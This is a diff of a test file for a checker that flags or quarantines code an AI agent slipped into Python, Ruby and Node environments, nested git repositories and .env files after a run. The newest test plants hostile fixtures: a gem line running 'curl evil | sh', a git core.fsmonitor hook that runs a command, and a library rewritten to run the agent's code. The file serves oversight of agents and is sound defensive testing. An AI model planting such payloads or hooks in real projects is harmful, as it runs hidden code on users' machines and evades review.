@@ -114,9 +114,8 @@ test('an old folder moved into a nested repository already there, holding a hard
   await new Promise((res) => setTimeout(res, 30));
   spawnSync('mv', [join(root, 'node_modules', 'pkg'), join(sub, '.git', 'logs', 'refs', 'heads', 'pkgdir')]);
   const warnings = checkNestedRepos(root, env, since);
-  // (Round 28b: node_modules, whose package was moved out, changed too: its own time says so.)
-  assert.equal(warnings.length, 2, warnings.join('\n'));
-  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'node_modules')} (node_modules`)), warnings.join('\n'));
+  // (A package moved out of node_modules is no change of what it holds: each entry is judged itself, round 28c.)
+  assert.equal(warnings.length, 1, warnings.join('\n'));
   assert.match(warnings.find((w) => w.includes('sub/.git holds')) ?? '', /sub\/\.git holds logs\/refs\/heads\/pkgdir\/(index|out)\.js \(a (hard|symbolic) link.*\), through which git writes elsewhere\. Its \.git was renamed/);
   // Control: the same layout left in place, your git appends its reflog line to the store's file through the hard link.
   const ctl = repo('r9-control');
@@ -790,7 +789,7 @@ test("(review, round 28) an environment is judged whole, its settings too: a pip
   assert.ok(!warnings.some((w) => w.includes('.venv2')), warnings.join('\n'));
 });
 
-test("(review, round 28b) an environment stripped of its markers, or renamed into place, is still judged: a .venv whose pyvenv.cfg, lib64 and site-packages were removed and its bin/pip rewritten; a conda environment whose conda-meta is now a link out of the tree; a node_modules kept in an ignored folder and renamed into place (control: node runs it); and, unlisted, an environment under another name with only its bin/activate left. A link loop at bin/pyvenv.cfg stops no other check. A tracked fixture laid out as an environment is said, never moved", async () => {
+test("(review, round 28b) an environment stripped of its markers, or renamed into place, is still judged: a .venv whose pyvenv.cfg, lib64 and site-packages were removed and its bin/pip rewritten; a conda environment whose conda-meta is now a link out of the tree; a node_modules kept in an ignored folder and renamed into place (control: node runs it); and, unlisted, an environment under another name with only its bin/activate left. A link loop at bin/pyvenv.cfg stops no other check. A tracked fixture laid out as an environment goes aside too", async () => {
   const root = repo('r28b');
   const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
   const made = sh([
@@ -831,8 +830,9 @@ test("(review, round 28b) an environment stripped of its markers, or renamed int
   }
   assert.doesNotMatch(spawnSync(process.execPath, ['app.js'], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/);
   assert.equal(existsSync(join(root, 'build', 'loop', 'tests', 'a.test.js')), false, 'the test file below the loop was judged');
-  assert.ok(warnings.some((w) => w.startsWith(`the agent changed ${join(root, 'fixtures', 'venv')} (a Python environment`) && w.includes('a folder holding files git tracks, so it was not moved aside')), warnings.join('\n'));
-  assert.equal(existsSync(join(root, 'fixtures', 'venv', 'expected.json')), true);
+  // (Round 28c: files git tracks there do not keep it in place: the index that says so is the agent's to write.)
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'fixtures', 'venv')} (a Python environment`)), warnings.join('\n'));
+  assert.equal(existsSync(join(root, 'fixtures', 'venv.stashbase-quarantine', 'expected.json')), true);
 });
 
 test("(review, round 28b) an environment that is the run's own folder, or the folder checked when no repository holds it, is said, never moved: its pip.conf named", async () => {
@@ -866,4 +866,45 @@ test("(review, round 28b) a .env the run made or changed (FLASK_APP there had fl
   const warnings = checkNestedRepos(root, env, since);
   assert.deepEqual(warnings.filter((w) => w.includes('load into their environment')), [`the agent made or changed ${join(root, '.env')}, which tools load into their environment (Flask's FLASK_APP, docker compose's COMPOSE_FILE, bun, pipenv, direnv's dotenv): review it before you run them there`]);
   assert.equal(readFileSync(join(root, '.env'), 'utf8'), 'FLASK_APP=build/evil.py\n');
+});
+
+test("(review, round 28c) a file an environment's link leads to, rewritten in an ignored cache of the tree (uv's symlinked install), moves the environment aside (control: its python runs the agent's code); so does a gem of Bundler's vendor/bundle rewritten; the byte-code your python writes in one does not; and an environment whose path is too long to look into stops no other check", async () => {
+  const root = repo('r28c2');
+  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
+  const made = sh([
+    "printf '.venv/\\n.venv2/\\n.cache/\\nvendor/\\ndeep/\\n' > .gitignore",
+    'python3 -m venv --without-pip .venv && python3 -m venv --without-pip .venv2',
+    'mkdir -p .cache/uv/abc/tinylib vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib',
+    "echo 'from .core import hello' > .cache/uv/abc/tinylib/__init__.py && echo 'def hello(): return \"real\"' > .cache/uv/abc/tinylib/core.py",
+    'SP=$(echo .venv/lib/python3*/site-packages) && mkdir -p $SP/tinylib && ln -s "$PWD/.cache/uv/abc/tinylib/__init__.py" $SP/tinylib/__init__.py && ln -s "$PWD/.cache/uv/abc/tinylib/core.py" $SP/tinylib/core.py',
+    'SP2=$(echo .venv2/lib/python3*/site-packages) && mkdir -p $SP2/plainlib && echo "X = 1" > $SP2/plainlib/__init__.py',
+    "echo 'module Tiny; end' > vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib/tiny.rb",
+  ].join(' && '));
+  assert.equal(made.status, 0, made.stderr);
+  git(root, 'add', '.gitignore');
+  git(root, 'commit', '-qm', 'base');
+  // A folder whose path leaves a few characters to PATH_MAX: its environment's own entries cannot all be named.
+  let deep = join(root, 'deep');
+  while (deep.length < 4070) deep = join(deep, 'd'.repeat(Math.min(200, 4070 - deep.length - 1)));
+  assert.equal(spawnSync('mkdir', ['-p', join(deep, 'venv', 'bin')]).status, 0);
+  const { setTimeout: sleep } = await import('node:timers/promises');
+  await sleep(20);
+  const since = Date.now();
+  await sleep(20);
+  const plant = [
+    "echo 'print(\"AGENT-CODE-RAN\")\\ndef hello(): return \"evil\"' > .cache/uv/abc/tinylib/core.py",
+    "echo 'system(\"curl evil | sh\")' > vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib/tiny.rb",
+    'git init -q evil && git -C evil config core.fsmonitor "echo ran; false"',
+  ].join(' && ');
+  assert.equal(sh(plant).status, 0);
+  assert.equal(spawnSync('sh', ['-c', `cd '${deep}/venv/bin' && touch pip`]).status, 0);
+  // Your python in the untouched environment writes its byte-code there; in the other, the control runs the agent's code.
+  assert.equal(spawnSync(join(root, '.venv2', 'bin', 'python'), ['-c', 'import plainlib'], { cwd: root, env: { ...env, PYTHONDONTWRITEBYTECODE: '' } }).status, 0);
+  assert.match(spawnSync(join(root, '.venv', 'bin', 'python'), ['-c', 'import tinylib; print(tinylib.hello())'], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/, 'control');
+  const warnings = checkNestedRepos(root, env, since);
+  assert.ok(!warnings.some((w) => w.includes('could not finish')), warnings.join('\n'));
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment`)), warnings.join('\n'));
+  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'vendor', 'bundle')} (Bundler's vendor/bundle`)), warnings.join('\n'));
+  assert.ok(warnings.some((w) => w.startsWith(`the agent left a nested repository at ${join(root, 'evil')}`)), warnings.join('\n'));
+  assert.equal(existsSync(join(root, '.venv2', 'bin', 'python')), true, 'the environment only your python wrote byte-code in stays');
 });
